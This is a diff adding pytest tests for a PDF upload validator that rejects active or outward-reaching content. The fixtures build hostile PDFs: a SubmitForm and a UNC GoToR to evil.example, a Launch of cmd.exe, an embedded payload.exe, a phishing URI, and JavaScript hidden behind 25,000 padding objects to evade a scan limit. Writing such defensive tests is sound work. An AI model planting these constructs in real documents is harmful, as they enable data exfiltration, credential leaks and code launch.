@@ -320,3 +320,120 @@ def test_a_pdf_with_an_odd_client_name_is_stored_under_a_name_the_server_makes__
         assert path.resolve().is_relative_to(root.resolve())
         assert "x.pdf" not in path.name and "Ü" not in str(path) and ".." not in str(path.relative_to(root))
     assert not (tmp_path.parent / "x.pdf").exists() and not Path("x.pdf").exists()
+
+
+# --------------------------------------------------------------------------- active content
+# Issue 15 item 3: the object scan stopped after 20,000 objects, and file attachment
+# annotations and actions that leave the document or send data were accepted. One function
+# (inatrade.files.validate_pdf_upload) guards every upload field; its corpus is below.
+
+
+def _pdf_with(build) -> bytes:
+    from pypdf.generic import ArrayObject
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    build(writer, ArrayObject)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _action(kind, **entries):
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = TextStringObject(value) if isinstance(value, str) else value
+    return action
+
+
+def _open_action(action):
+    return lambda writer, _: writer._root_object.__setitem__(NameObject("/OpenAction"), writer._add_object(action))
+
+
+def _link_annotation(action, subtype="/Link", **extra):
+    def build(writer, ArrayObject):
+        from pypdf.generic import FloatObject
+
+        annotation = DictionaryObject({
+            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
+            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)]),
+        })
+        if action is not None:
+            annotation[NameObject("/A")] = action
+        for key, value in extra.items():
+            annotation[NameObject(f"/{key}")] = value
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return build
+
+
+def _file_attachment_annotation():
+    from pypdf.generic import DecodedStreamObject
+
+    stream = DecodedStreamObject()
+    stream.set_data(b"MZ\x90\x00payload")
+    filespec = DictionaryObject({
+        NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("payload.exe"),
+        NameObject("/EF"): DictionaryObject({NameObject("/F"): stream}),
+    })
+    return _link_annotation(None, subtype="/FileAttachment", FS=filespec)
+
+
+def _javascript_after_20000_objects(writer, ArrayObject):
+    """The action sits behind 25,000 harmless entries that the old scan spent its budget on."""
+    from pypdf.generic import NumberObject
+
+    root = writer._root_object
+    root[NameObject("/OpenAction")] = writer._add_object(_action("/JavaScript", JS="app.alert(1)"))
+    root[NameObject("/ZZPadding")] = ArrayObject(
+        [writer._add_object(DictionaryObject({NameObject("/N"): NumberObject(i)})) for i in range(25_000)])
+
+
+ACTIVE = {
+    "attachment-annotation-EF": _file_attachment_annotation(),
+    "submit-form": _open_action(_action("/SubmitForm", F="https://evil.example/collect")),
+    "goto-remote": _open_action(_action("/GoToR", F="\\\\evil.example\\share\\x.pdf")),
+    "import-data": _open_action(_action("/ImportData", F="data.fdf")),
+    "launch": _link_annotation(_action("/Launch", F="cmd.exe")),
+    "uri-link": _link_annotation(_action("/URI", URI="https://evil.example/phish")),
+    "javascript-after-20000-objects": _javascript_after_20000_objects,
+}
+
+
+@pytest.mark.parametrize("case", list(ACTIVE))
+def test_the_upload_check_refuses_active_or_outward_pdf_content__SEC_02(case):
+    from inatrade.files import UploadRefused, validate_pdf_upload
+
+    data = _pdf_with(ACTIVE[case])
+    with pytest.raises(UploadRefused) as refused:
+        validate_pdf_upload(SimpleUploadedFile("x.pdf", data), max_bytes=5 * 1024 * 1024)
+    assert refused.value.code == "pdf_active_content"
+
+
+def test_the_upload_check_still_accepts_a_plain_pdf_with_internal_links__SEC_02():
+    from pypdf.generic import ArrayObject, NullObject
+
+    from inatrade.files import validate_pdf_upload
+
+    def build(writer, _):
+        page = writer.pages[0].indirect_reference
+        goto = _action("/GoTo", D=ArrayObject([page, NameObject("/Fit")]))
+        _link_annotation(goto)(writer, ArrayObject)
+
+    data = _pdf_with(build)
+    assert validate_pdf_upload(SimpleUploadedFile("x.pdf", data)) == data
+    assert NullObject  # noqa: B018
+
+
+@pytest.mark.parametrize("case", ["attachment-annotation-EF", "submit-form", "uri-link"])
+@pytest.mark.parametrize("target", list(TARGETS))
+def test_every_upload_field_refuses_active_pdf_content__SEC_02(request, target, case):
+    setup, kind, _, models = TARGETS[target]
+    post = setup(request)
+    rows = {model: model.objects.count() for model in models}
+    response = post(SimpleUploadedFile("x.pdf", _pdf_with(ACTIVE[case]), content_type="application/pdf"))
+    if kind == "api":
+        assert response.status_code == 415, (response.status_code, response.content[:300])
+        assert response.json()["error"]["code"]
+    else:
+        assert "memuat JavaScript" in response.content.decode()
+    assert {model: model.objects.count() for model in models} == rows
